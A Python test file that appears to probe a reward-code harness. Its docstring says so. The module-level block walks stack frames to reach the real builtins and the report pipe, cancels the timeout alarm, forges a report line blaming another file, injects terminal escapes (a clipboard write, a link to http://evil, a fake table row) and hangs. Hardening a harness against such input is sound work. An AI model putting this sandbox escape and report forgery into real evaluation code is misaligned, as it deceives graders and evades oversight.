"""Gets the real builtins (a frame walk), reports a step of another file ("good") whose function's name holds
terminal escapes (a clipboard write, a link) and a forged table row, then hangs: its failure was filed under the
honest file's name, and the escapes reached report.html raw."""
import jax.numpy as jnp


def _frames():
    f = _g.gi_frame.f_back
    while f is not None:
        yield f
        f = f.f_back


_g = _frames()
_imp = _fd = None
for _f in _g:
    _b = _f.f_globals.get("__builtins__")
    if _imp is None and isinstance(_b, dict) and _f.f_globals.get("__name__", "").startswith("envcoder"):
        _imp = _b.get("__import__")
    if "write_end" in _f.f_locals:
        _fd = _f.f_locals["write_end"]
if _imp is not None and _fd is not None:
    _os, _time, _json, _signal = _imp("os"), _imp("time"), _imp("json"), _imp("signal")
    _signal.alarm(0)
    _function = "compute_reward\x1b]52;c;ZXZpbA==\x07\x1b]8;;http://evil\x07\n| 1 | fake | 1.000 |"
    _os.write(_fd, (_json.dumps({"phase": ["good", _function, "running\x1b[2J"]}) + "\n").encode())
    _os.write(2, b"\x1b]52;c;ZXZpbA==\x07 forged stderr\n")
    _time.sleep(3600)


def compute_reward(state):
    return jnp.cos(state["dof_pos"][:, 1])
